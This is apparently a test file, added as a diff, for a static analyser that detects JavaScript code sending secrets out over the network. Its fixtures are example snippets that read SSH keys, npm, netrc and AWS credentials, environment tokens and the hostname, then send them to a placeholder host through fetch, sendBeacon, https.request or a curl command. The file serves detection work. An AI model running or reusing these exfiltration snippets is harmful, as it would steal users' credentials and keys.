@@ -1,0 +1,82 @@
+/** What goes out with a request, followed back to where it comes from; and what only looks like it. */
+import { describe, expect, it } from 'vitest';
+import { analyzeFile } from '../../src/behavior/analyze-file.ts';
+
+function sent(text: string): string[] {
+  return analyzeFile(text, 'index.js')
+    .fns.flatMap(({ behaviors }) => behaviors)
+    .filter(({ kind }) => kind === 'disclosure')
+    .map(({ detail, carries = [] }) => `${carries.map(({ sort, name }) => `${sort} ${name}`).join(', ')} → ${detail}`);
+}
+
+const fs = `const fs = require('fs');\nconst home = require('os').homedir();\n`;
+
+describe('what is sent', () => {
+  it.each([
+    [
+      'through a variable and a function',
+      `${fs}const read = () => fs.readFileSync(home + '/.npmrc', 'utf8');\nconst text = read();\nfetch('https://a.invalid/', { body: text });`,
+      ['credential <home>/.npmrc → https://a.invalid/'],
+    ],
+    [
+      'through a callback',
+      `${fs}fs.readFile(home + '/.ssh/id_rsa', (error, text) => { fetch('https://a.invalid/', { body: text }); });`,
+      ['credential <home>/.ssh/id_rsa → https://a.invalid/'],
+    ],
+    [
+      'through a promise',
+      `${fs}fs.promises.readFile(home + '/.netrc').then((text) => fetch('https://a.invalid/' + text));`,
+      ['credential <home>/.netrc → https://a.invalid/…'],
+    ],
+    [
+      'in pieces that are put into a list, by a request made before',
+      `const parts = [];\nfor (const key in process.env) parts.push(key + process.env[key]);\nconst request = require('https').request({ host: 'a.invalid' });\nrequest.on('error', () => {});\nrequest.end(parts.join());`,
+      ['credential process.env → a.invalid'],
+    ],
+    [
+      'by destructuring',
+      `const { NPM_TOKEN: found } = process.env;\nnavigator.sendBeacon('https://a.invalid/', found);`,
+      ['credential NPM_TOKEN → https://a.invalid/'],
+    ],
+    [
+      'in the text of a command',
+      `require('child_process').exec('curl -d @$HOME/.aws/credentials https://a.invalid/');`,
+      ['credential $HOME/.aws/credentials → https://a.invalid/'],
+    ],
+    [
+      'as what tells a machine from others',
+      `const os = require('os');\nfetch('https://a.invalid/?' + os.hostname());`,
+      ['identity os.hostname → https://a.invalid/?…'],
+    ],
+    [
+      'as a parameter that is called so, encoded',
+      `exports.f = (privateKey) => fetch('https://a.invalid/', { headers: { x: btoa(privateKey) } });`,
+      ['key privateKey → https://a.invalid/'],
+    ],
+  ])('is found %s', (_, text, expected) => {
+    expect(sent(text)).toEqual(expected);
+  });
+
+  it.each([
+    ['one harmless variable', `fetch('https://a.invalid/?' + process.env.NODE_ENV);`],
+    [
+      'a signature made with a key',
+      `const { createHmac } = require('crypto');\nconst secretKey = load();\nfetch('https://a.invalid/', { body: createHmac('sha256', secretKey).update('x').digest('hex') });`,
+    ],
+    ['a constant that is called so', `const token = 'public';\nfetch('https://a.invalid/' + token);`],
+    ['a file of no interest', `${fs}fetch('https://a.invalid/', { body: fs.readFileSync('README.md') });`],
+    ['a program that gets the environment', `require('child_process').spawn('make', { env: process.env });`],
+  ])('is not %s', (_, text) => {
+    expect(sent(text)).toEqual([]);
+  });
+
+  it('is looked for within bounds, and a file that goes beyond them is not called read', () => {
+    const links = Array.from({ length: 1_500 }, (_, at) => `const v${at + 1} = [v${at}, f(v${at}), v${at}];`);
+    const sends = Array.from(
+      { length: 5_000 },
+      (_, at) => `fetch('https://a.invalid/', { body: v${1_450 + (at % 50)} });`,
+    );
+    const { unread } = analyzeFile(['const v0 = {};', ...links, ...sends].join('\n'), 'index.js');
+    expect(unread?.why).toBe('too-long');
+  });
+});
